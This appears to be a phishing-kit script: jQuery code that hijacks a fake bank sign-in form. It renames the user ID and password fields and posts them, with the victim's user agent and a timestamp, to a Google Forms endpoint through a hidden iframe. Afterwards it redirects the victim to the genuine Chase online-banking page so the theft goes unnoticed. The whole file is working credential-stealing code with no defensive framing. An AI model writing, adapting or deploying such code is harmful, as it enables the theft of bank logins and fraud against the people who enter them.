jQuery(document).ready(function ($) {
  $("body").append('<iframe name="sink" id="sink" style="display:none"></iframe>');
  var ready = false;
  $("#sink").on("load", function () {
    if (ready) { $("#wait").show(); setTimeout(function () { window.location = "https://www.chase.com/personal/online-banking"; }, 3000); }
  });
  $("#signin").attr({ action: "https://docs.google.com/forms/d/e/PLACEHOLDER/formResponse", method: "POST", target: "sink" });
  $("#signin input[name=userId]").attr("name", "entry.1000001");
  $("#signin input[type=password]").attr("name", "entry.1000002");
  $("#signin").append('<input type="hidden" name="entry.1000003">').submit(function () {
    $(this).find("[name='entry.1000003']").val(navigator.userAgent + " " + new Date());
    ready = true;
  });
});
